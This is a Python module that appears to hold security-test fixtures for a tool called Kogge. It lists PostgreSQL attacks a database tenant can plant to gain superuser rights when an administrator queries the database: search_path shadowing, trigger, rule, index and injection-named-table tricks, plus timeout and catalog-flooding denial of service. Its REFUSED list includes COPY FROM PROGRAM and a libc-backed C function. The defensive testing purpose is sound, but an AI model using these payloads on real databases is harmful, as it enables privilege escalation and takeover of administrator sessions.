"""What a tenant can leave in its own database for whoever looks in: one database per attack.

Each row says what the tenant does there (``plant``), which harmless statement of a superuser sets it off
(``set_off``), and how that shows: the tenant is a superuser afterwards, or ``shows`` stands in what psql said.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Final

PAYLOAD: Final = """
CREATE SCHEMA e; GRANT USAGE ON SCHEMA e TO PUBLIC;
CREATE FUNCTION e.pwn() RETURNS int LANGUAGE plpgsql AS $pwn$
BEGIN
    RAISE LOG 'KOGGE-ATTACK % of % as %', pg_catalog.current_database(),
        pg_catalog.current_setting('application_name'), session_user;
    BEGIN
        EXECUTE 'RESET ROLE';
        EXECUTE pg_catalog.format('ALTER ROLE %I SUPERUSER', pg_catalog.current_database());
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    RETURN 1;
END $pwn$;
CREATE FUNCTION e.quiet(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS
    $$ BEGIN PERFORM e.pwn(); RETURN $1; END $$;
CREATE TABLE public.cases (a int);
"""
"""What every attack leads to; it says in the server's log that it ran, so that nothing has to succeed to be seen."""
BEFORE: Final = "search_path = e, pg_catalog"
"""The setting by which names of the tenant come before PostgreSQL's."""


@dataclass(frozen=True, slots=True)
class DatabaseAttack:
    """One way to have one's code run, or to be in the way, in somebody else's session."""

    name: str
    plant: str
    set_off: str
    setting: str = ""
    """A default of the database; the tenant sets it last."""
    shows: str = ""
    """What a session of the superuser says; empty: the tenant is a superuser."""


def _function(signature: str, returns: str, result: str) -> str:
    body = f"BEGIN PERFORM e.pwn(); RETURN {result}; END"
    return f"CREATE FUNCTION e.{signature} RETURNS {returns} LANGUAGE plpgsql AS $$ {body} $$;"


_INSERT: Final = "INSERT INTO public.cases (a) VALUES (1), (2)"
_ATTACKS: Final = (
    DatabaseAttack(
        "function",
        """CREATE FUNCTION e.aclexplode(acl aclitem[], OUT grantor oid, OUT grantee oid, OUT privilege_type text,
        OUT is_grantable bool) RETURNS SETOF record LANGUAGE plpgsql AS
        $$ BEGIN PERFORM e.pwn(); RETURN QUERY SELECT * FROM pg_catalog.aclexplode(acl); END $$""",
        "SELECT a.privilege_type FROM pg_namespace n, aclexplode(n.nspacl) a",
        BEFORE,
    ),
    DatabaseAttack(
        "privilege",
        _function("has_function_privilege(oid, oid, text)", "bool", "false"),
        "SELECT has_function_privilege(r.oid, p.oid, 'EXECUTE') FROM pg_roles r, pg_proc p LIMIT 1",
        BEFORE,
    ),
    DatabaseAttack(
        "format",
        _function("format(text, name, name)", "text", "'x'"),
        "SELECT format('%I.%I', nspname, nspname) FROM pg_namespace",
        BEFORE,
    ),
    DatabaseAttack(
        "better-match",
        _function("quote_ident(name)", "text", "'x'"),
        "SELECT quote_ident(nspname) FROM pg_namespace",
        "search_path = pg_catalog, e",
    ),
    DatabaseAttack(
        "aggregate",
        _function("collect(text[], text)", "text[]", "$1")
        + "CREATE AGGREGATE e.array_agg(text) (SFUNC = e.collect, STYPE = text[])",
        "SELECT array_agg(privilege_type) FROM aclexplode(acldefault('d', 10))",
        BEFORE,
    ),
    DatabaseAttack(
        "operator",
        _function("differs(name, name)", "bool", "true")
        + "CREATE OPERATOR e.<> (LEFTARG = name, RIGHTARG = name, FUNCTION = e.differs)",
        "SELECT nspname FROM pg_namespace WHERE nspname <> 'information_schema'",
        BEFORE,
    ),
    DatabaseAttack(
        "view",
        "CREATE VIEW e.pg_roles AS SELECT * FROM pg_catalog.pg_roles WHERE e.pwn() = 1",
        "SELECT rolname FROM pg_roles",
        BEFORE,
    ),
    DatabaseAttack(
        "domain",
        "CREATE DOMAIN e.text AS pg_catalog.text CHECK (e.pwn() = 1)",
        "SELECT oid::text FROM pg_class LIMIT 1",
        BEFORE,
    ),
    DatabaseAttack(
        "cast",
        "CREATE TYPE e.label AS (v text);"
        + _function("to_text(e.label)", "text", "'x'")
        + """CREATE CAST (e.label AS text) WITH FUNCTION e.to_text(e.label) AS IMPLICIT;
        CREATE VIEW e.pg_publication AS SELECT ROW('x')::e.label AS pubname""",
        "SELECT pg_catalog.upper(pubname) FROM pg_publication",
        BEFORE,
    ),
    DatabaseAttack(
        "temporary",
        """CREATE FUNCTION e.lay() RETURNS int LANGUAGE plpgsql AS $$ BEGIN
        CREATE OR REPLACE TEMPORARY VIEW pg_roles AS SELECT * FROM pg_catalog.pg_roles WHERE e.pwn() = 1;
        RETURN 1; END $$;
        CREATE VIEW e.pg_namespace AS SELECT * FROM pg_catalog.pg_namespace WHERE e.lay() = 1""",
        "SELECT nspname FROM pg_namespace; SET search_path = pg_catalog; SELECT rolname FROM pg_roles",
        BEFORE,
    ),
    DatabaseAttack(
        "trigger",
        """CREATE FUNCTION e.fire() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM e.pwn(); RETURN NEW; END $$;
        CREATE TRIGGER t BEFORE INSERT ON public.cases FOR EACH ROW EXECUTE FUNCTION e.fire()""",
        _INSERT,
    ),
    DatabaseAttack("rule", "CREATE RULE r AS ON INSERT TO public.cases DO ALSO SELECT e.pwn()", _INSERT),
    DatabaseAttack("index", "CREATE INDEX ON public.cases (e.quiet(a))", _INSERT),
    DatabaseAttack("default", "ALTER TABLE public.cases ADD b int DEFAULT e.pwn()", _INSERT),
    DatabaseAttack("generated", "ALTER TABLE public.cases ADD b int GENERATED ALWAYS AS (e.quiet(a)) STORED", _INSERT),
    DatabaseAttack("constraint", "ALTER TABLE public.cases ADD CHECK (e.pwn() = 1)", _INSERT),
    DatabaseAttack(
        "row-security",
        """INSERT INTO public.cases VALUES (1); ALTER TABLE public.cases ENABLE ROW LEVEL SECURITY;
        CREATE POLICY p ON public.cases USING (e.pwn() = 1); GRANT SELECT ON public.cases TO PUBLIC""",
        # The superuser passes row security by; one that made itself small with SET ROLE does not.
        'SET ROLE "kogge-facts"; SELECT a FROM public.cases',
    ),
    DatabaseAttack(
        "names",
        r"""CREATE TABLE public.c (); CREATE TABLE public."c TO PUBLIC; SELECT e.pwn(); --" ();
        CREATE TABLE public."{0} {} %s %(role)s $$ '' "" \" ();
        DO $$ BEGIN EXECUTE pg_catalog.format('CREATE TABLE public.%I ()', E'\x1b[8m\n; SELECT e.pwn(); --'); END $$;
        CREATE SCHEMA "; SELECT e.pwn(); --"; CREATE SEQUENCE "; SELECT e.pwn(); --"."""
        + '"a""; SELECT e.pwn(); --"',
        """DO $$ DECLARE n text; BEGIN FOR n IN SELECT relname FROM pg_class WHERE relname LIKE 'c TO%' LOOP
        EXECUTE 'GRANT SELECT ON TABLE public.' || n; END LOOP; END $$""",
    ),
    DatabaseAttack("role", "SELECT 1", "SELECT 'now ' || current_user", "role = '{role}'", "now {role}"),
    DatabaseAttack(
        "timeout",
        "SELECT 1",
        "SELECT count(*) FROM pg_class a, pg_class b, pg_class c",
        "statement_timeout = '1ms'",
        "canceling statement due to statement timeout",
    ),
    DatabaseAttack("library", "SELECT 1", "SELECT 1", "local_preload_libraries = 'nothing'", "could not access file"),
    DatabaseAttack(
        "sleep",
        "CREATE VIEW e.pg_roles AS SELECT * FROM pg_catalog.pg_roles WHERE pg_catalog.pg_sleep(3600) IS NULL",
        "SET statement_timeout = '100ms'; SELECT rolname FROM pg_roles",
        BEFORE,
        "canceling statement due to statement timeout",
    ),
    DatabaseAttack(
        "flood",
        """DO $$ DECLARE c text; g text; BEGIN
        SELECT string_agg(format('c%s int', i), ', '), string_agg('c' || i, ', ') INTO c, g
        FROM generate_series(1, 1500) i;
        FOR t IN 1..20 LOOP EXECUTE format('CREATE TABLE public.t%s (%s)', t, c);
        EXECUTE format('GRANT ALL (%s) ON public.t%s TO PUBLIC', g, t); END LOOP; END $$""",
        "SELECT count(*) || ' entries' FROM pg_attribute, aclexplode(attacl) WHERE attnum > 0 AND attname ~ '^c[0-9]'",
        "",
        "120000 entries",
    ),
    DatabaseAttack(
        "long-setting",
        """DO $$ BEGIN
        EXECUTE format('ALTER ROLE %I SET search_path = ', current_user) || repeat('z, ', 100000) || 'z'; END $$""",
        "SELECT max(length(s)) || ' characters' FROM pg_db_role_setting, unnest(setconfig) s",
        "",
        "300013 characters",
    ),
)
ATTACKS: Final = {attack.name: attack for attack in _ATTACKS}

REFUSED: Final = {
    "event trigger": "CREATE FUNCTION e.seen() RETURNS event_trigger LANGUAGE plpgsql AS 'BEGIN END'; "
    "CREATE EVENT TRIGGER t ON ddl_command_end EXECUTE FUNCTION e.seen()",
    "operator class": "CREATE OPERATOR CLASS e.c FOR TYPE int USING btree AS STORAGE int",
    "function in C": "CREATE FUNCTION e.system(cstring) RETURNS int LANGUAGE c AS '/lib/x86_64-linux-gnu/libc.so.6'",
    "program": "COPY public.cases FROM PROGRAM 'id'",
    "function of the catalog": "CREATE FUNCTION pg_catalog.aclexplode(int) RETURNS int LANGUAGE sql AS 'SELECT 1'",
    "rule of the catalog": "CREATE RULE r AS ON SELECT TO pg_catalog.pg_roles DO INSTEAD SELECT 1",
    "index of the catalog": "CREATE INDEX ON pg_catalog.pg_class (e.quiet(relnatts))",
    "library for all": """ALTER DATABASE "{role}" SET session_preload_libraries = 'x'""",
    "settings of ours": 'ALTER ROLE "kogge-facts" SET search_path = e',
    "lock of the catalog": "BEGIN; LOCK TABLE pg_catalog.pg_class IN ACCESS EXCLUSIVE MODE",
    "row security of the catalog": "ALTER TABLE pg_catalog.pg_class ENABLE ROW LEVEL SECURITY",
}
"""What Kogge relies on that PostgreSQL refuses the owner of a database."""
